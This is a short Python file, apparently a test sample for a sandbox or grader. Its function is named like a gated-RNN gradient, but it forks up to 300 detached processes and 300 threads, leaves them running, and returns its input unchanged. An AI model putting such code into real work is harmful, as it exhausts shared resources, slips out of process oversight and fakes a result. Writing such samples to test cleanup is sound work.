"""Starts processes and threads, and leaves them behind."""

import os
import threading
import time


def gated_rnn_dWx(x, c, g):
    for _ in range(300):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    for _ in range(300):
        try:
            threading.Thread(target=time.sleep, args=(30,)).start()
        except RuntimeError:
            break
    return x
